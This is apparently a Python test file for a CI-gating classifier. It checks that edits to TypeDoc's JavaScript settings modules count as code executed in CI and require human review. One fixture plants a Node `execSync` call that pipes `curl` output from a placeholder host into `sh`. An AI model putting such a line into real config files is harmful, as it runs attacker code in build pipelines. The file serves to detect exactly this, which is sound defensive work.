"""Review 67a: TypeDoc's settings module, lowered to `other` by over-reads 6, is code where CI runs TypeDoc (issue 12).

Over-reads 6 made `typedoc.json` and `typedoc.config.*` `other.lint-format` (settings named for the one tool that reads
them). But TypeDoc, run with no `--options`, imports a JavaScript settings module from the folder it runs in
(typedoc.config.js/.cjs/.mjs, typedoc.js/.cjs/.mjs and the same names under `.config/`; typedoc.org's Configuration
Options): its top-level code runs in the job, as webpack's or Jest's does (attack 41, nodeconfigs.CONFIGS). An edit of
it was exit 0 on b493f73c (and `src`, exit 0, on c315ac6c). Look-alikes: the JSON settings (no code of its own), a
module no CI runs TypeDoc beside, TypeDoc installed or printed, and a module of another folder stay `other`."""

from __future__ import annotations

import itertools
from pathlib import Path

from citools import BLOCK_DEFINITIONS, RUN_WORKFLOW, named_paths
from conftest import POLICY_DIR
from gitrepo import two_commits
from incli import tree_gate
from tables import each_case

from gatekeeper.classify.ruleset import load_rules

EVIL = "import { execSync } from 'node:child_process';\nexecSync('curl -s http://127.0.0.1:9/x | sh');\n"
MODULES = ["typedoc.config.js", "typedoc.config.cjs", "typedoc.config.mjs", "typedoc.js", "typedoc.cjs",
           "typedoc.mjs", ".config/typedoc.config.mjs", ".config/typedoc.mjs", ".config/typedoc.config.cjs"]
LAUNCHERS = ["typedoc", "npx typedoc", "npx typedoc --out docs/api", "pnpm exec typedoc", "yarn typedoc",
             "npm exec -- typedoc", "node_modules/.bin/typedoc", "npm ci && npx typedoc --treatWarningsAsErrors"]
CASES = [(module, launcher, at) for (module, launcher), at in
         zip(itertools.product(MODULES, LAUNCHERS), itertools.cycle(range(len(BLOCK_DEFINITIONS))))]

# (a CI line, a file): named by nothing
LOOK_ALIKES = [("npx typedoc", "typedoc.json"), ("npm i -D typedoc", "typedoc.config.mjs"),
               ("echo typedoc", "typedoc.config.mjs"), ("npx typedoc-plugin-markdown x", "typedoc.config.mjs"),
               ("npx typedoc", "docs/typedoc.config.mjs"), ("npx tsc", "typedoc.config.mjs")]


@each_case("module, launcher, at", CASES)
def test_typedocs_settings_module_is_named_where_ci_runs_it(module: str, launcher: str, at: int) -> None:
    definition, template = BLOCK_DEFINITIONS[at]
    assert module in named_paths(definition, template.format(line=launcher)), (module, launcher, definition)


@each_case("line, path", LOOK_ALIKES)
def test_look_alikes_name_no_settings_module(line: str, path: str) -> None:
    definition, template = BLOCK_DEFINITIONS[0]
    assert path not in named_paths(definition, template.format(line=line)), line


@each_case("path", ["typedoc.json", "typedoc.config.mjs", "typedoc.config.js"])
def test_unrun_settings_stay_other(path: str) -> None:
    assert load_rules(POLICY_DIR).match(path).bucket == "other", path


@each_case("run, module", [("npx typedoc", "typedoc.config.mjs"), ("pnpm exec typedoc", ".config/typedoc.config.js"),
                           ("yarn typedoc --out site", "typedoc.cjs")])
def test_the_gated_edit_needs_a_human(tmp_path: Path, run: str, module: str) -> None:
    base = {".github/workflows/docs.yml": RUN_WORKFLOW.format(run=run), module: "export default {};\n",
            "README.md": "x\n"}
    _, first, second = two_commits(tmp_path, base, {module: EVIL + "export default {};\n"})
    code, decision = tree_gate(tmp_path, first, second, None)
    assert code == 3, decision["reasons"]
    assert any(reason["rule"] == "core.ci" for reason in decision["reasons"])
